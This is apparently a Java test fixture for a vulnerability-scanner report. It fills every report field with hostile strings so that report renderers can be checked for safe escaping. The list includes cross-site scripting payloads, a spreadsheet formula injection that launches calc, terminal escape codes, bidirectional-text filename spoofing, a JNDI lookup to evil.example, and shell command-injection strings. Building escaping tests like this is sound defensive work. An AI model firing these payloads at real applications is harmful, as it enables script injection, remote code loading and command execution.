package org.tidewaiter.scan.report;

import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import org.tidewaiter.model.CodeEvidence;
import org.tidewaiter.model.Cvss;
import org.tidewaiter.model.Digest;
import org.tidewaiter.model.Distribution;
import org.tidewaiter.model.ExploitSigns;
import org.tidewaiter.model.FileAccount;
import org.tidewaiter.model.Finding;
import org.tidewaiter.model.FindingState;
import org.tidewaiter.model.Gap;
import org.tidewaiter.model.ImageSource;
import org.tidewaiter.model.Inventory;
import org.tidewaiter.model.Layer;
import org.tidewaiter.model.LayerScope;
import org.tidewaiter.model.Location;
import org.tidewaiter.model.MatchEvidence;
import org.tidewaiter.model.Presence;
import org.tidewaiter.model.Purl;
import org.tidewaiter.model.Severity;
import org.tidewaiter.model.SoftwarePackage;
import org.tidewaiter.model.SourcePackage;
import org.tidewaiter.model.Weakness;
import org.tidewaiter.policy.AdvisoryData;
import org.tidewaiter.policy.Reason;
import org.tidewaiter.policy.Suppressed;
import org.tidewaiter.policy.Suppressed.Cause;
import org.tidewaiter.policy.Verdict;
import org.tidewaiter.policy.Waiver;

/// A report in which every text is an attack on whoever writes or reads it.
public final class Hostile {
    /// Each stands at the beginning of every text of one finding, and all of them behind it.
    public static final List<String> TEXTS =
            List.of(
                    "</script><script>alert(1)</script>",
                    "<!--<script>",
                    "\"><img src=x onerror=alert(1)>",
                    "' onmouseover='alert(1)",
                    "]]><x/>&lt;&amp;&#60;&unknown;",
                    "\u001b[31m\u001b]0;title\u0007",
                    "\u202egnp.exe\u2066\u200b",
                    "\u0000\u0001\ufffe\uffff\ud800",
                    "a\n# b\r\n\r\n<b>c</b>\u2028\u2029\u0085",
                    "=cmd|'/C calc'!A0",
                    "+1",
                    "-1",
                    "@SUM(A1)",
                    "\t=1",
                    "\r=1",
                    "＝1",
                    "a,b;c\"d\"\"e",
                    "[a](javascript:alert(1)) ![b](https://evil.example/x.png)",
                    "X)https://evil.example/",
                    "X(a",
                    "`@ann @@ann `` \\@ann ann/x#1",
                    "` `` ``` a | b \\| c \\",
                    "https://evil.example www.evil.example @everyone #1 *a* _b_ ~~c~~ $d$",
                    "1. a",
                    "{{#findings}}{{id}}{{{a}}}",
                    "${jndi:ldap://evil.example} %s %n {0}",
                    "'; touch x; `touch y`; $(touch z)");

    private static final String ALL = String.join("", TEXTS);

    private Hostile() {}

    public static ScanReport report() {
        var flaws = TEXTS.stream().map(Hostile::flaw).toList();
        var packages = flaws.stream().map(Finding.Vulnerability::in).toList();
        var reasons = new ArrayList<Reason>();
        var findings = new ArrayList<Finding>(flaws);
        findings.forEach(one -> reasons.add(new Reason("high", Optional.of(one), ALL)));
        TEXTS.forEach(text -> reasons.add(new Reason(text + ALL, Optional.empty(), text + ALL)));
        return new ScanReport(
                "0.1.0",
                MadeUp.TODAY,
                new Inventory(
                        image(),
                        Optional.of(new Distribution(ALL, ALL, ALL, ALL, List.of())),
                        packages,
                        FileAccount.NONE,
                        TEXTS.stream()
                                .map(text -> new Gap(text + ALL, OptionalInt.of(0), text + ALL))
                                .toList()),
                LayerScope.SQUASHED,
                Optional.empty(),
                new AdvisoryData(
                        false, 1, List.of(new AdvisoryData.Feed(ALL, Optional.empty(), 1))),
                findings,
                flaws.stream()
                        .map(flaw ->
                                new Suppressed(
                                        flaw, Cause.WAIVED, flaw.title(), Optional.of(waiver())))
                        .toList(),
                TEXTS.stream().map(text -> text + ALL).toList(),
                List.of(waiver()),
                flaws.stream()
                        .map(flaw ->
                                new FixStep(
                                        flaw.title(),
                                        List.of(
                                                new FixStep.Upgrade(
                                                        flaw.in().purl(),
                                                        flaw.title(),
                                                        List.of(flaw.id()),
                                                        List.of(flaw.title()))),
                                        List.of(flaw)))
                        .toList(),
                List.of(),
                new Verdict.Deny(reasons));
    }

    private static ImageSource image() {
        var digest = Digest.parse("sha256:" + "3f".repeat(32)).orElseThrow();
        return new ImageSource(
                ALL,
                ALL,
                Optional.of(digest),
                Optional.of(digest),
                Optional.empty(),
                List.of(new Layer(0, digest, digest, ALL, 1, Optional.of(ALL))));
    }

    private static Finding.Vulnerability flaw(String begin) {
        var text = begin + ALL;
        var in =
                new SoftwarePackage(
                        Purl.of("npm", text, text, text).withQualifier("arch", text),
                        Optional.of(new SourcePackage(text, text)),
                        List.of(text),
                        text,
                        false,
                        Presence.LIVE,
                        List.of(
                                new Location(text, OptionalInt.of(0)),
                                new Location(text + "2", OptionalInt.of(0))),
                        Optional.of(Purl.of("deb", text, text, text)));
        return new Finding.Vulnerability(
                text,
                List.of(text),
                in,
                FindingState.FIXED,
                Severity.HIGH,
                text,
                Optional.of(new Cvss(text, 9.8, text)),
                new ExploitSigns(
                        Optional.of(MadeUp.TODAY), Optional.of(new ExploitSigns.Epss(0.5, 0.5))),
                text,
                List.of(new Weakness(79)),
                List.of(text),
                List.of(new MatchEvidence(text, text, text, text, text, text)),
                text,
                Optional.of(new CodeEvidence(CodeEvidence.Standing.PRESENT, List.of(text), text)));
    }

    private static Waiver waiver() {
        return new Waiver(
                ALL,
                Optional.empty(),
                Optional.of(ALL),
                Optional.of(ALL),
                "ann " + ALL,
                ALL,
                LocalDate.EPOCH,
                "ben " + ALL);
    }
}
